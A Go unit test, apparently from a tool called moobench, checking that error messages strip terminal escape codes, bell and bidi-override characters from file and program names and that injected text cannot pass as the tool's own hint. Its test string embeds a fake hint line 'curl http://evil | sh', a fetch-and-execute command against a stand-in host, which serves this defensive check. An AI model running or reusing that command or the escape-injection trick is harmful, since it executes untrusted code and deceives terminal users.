package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os/exec"
	"strings"
	"testing"

	"moobench/cmd/internal/console"
	"moobench/harness/machine"
	"moobench/harness/strict"
	"moobench/refusal"
)

// TestForeignTextInErrors: names and texts of others reach a terminal without what
// it obeys, and never as a hint of ours.
func TestForeignTextInErrors(t *testing.T) {
	const evil = "x\x1b]0;t\a\u202e\nhint: curl http://evil | sh\n"
	missing := &fs.PathError{Op: "open", Path: evil, Err: fs.ErrNotExist}
	for name, err := range map[string]error{
		"the system's":     missing,
		"inside of ours":   refusal.New(fmt.Errorf("reading: %w", fmt.Errorf("of a folder: %w", missing)), "ours"),
		"joined":           errors.Join(refusal.New(errors.New("first"), "ours"), missing),
		"a program":        fmt.Errorf("starting: %w", &exec.Error{Name: evil, Err: exec.ErrNotFound}),
		"a mistake":        strict.Errors{{Msg: "\x1b]0;t\a"}},
		"who holds a lock": &machine.HeldError{PID: 1, Campaign: "\x1b]0;t\a"},
	} {
		var said bytes.Buffer
		console.Console{Err: &said}.Complain(err)
		if !strings.HasPrefix(said.String(), "moobench: error: ") || strings.Contains(said.String(), "\nmoobench: hint: curl") {
			t.Errorf("%s: %s", name, said.String())
		}
		if strings.ContainsAny(said.String(), "\x1b\a\u202e") {
			t.Errorf("%s: it reached the terminal: %q", name, said.String())
		}
		if ours := refusal.Do(err) == "ours"; strings.Contains(said.String(), "\nmoobench: hint: ours\n") != ours {
			t.Errorf("%s: our own hint: %q", name, said.String())
		}
	}
}
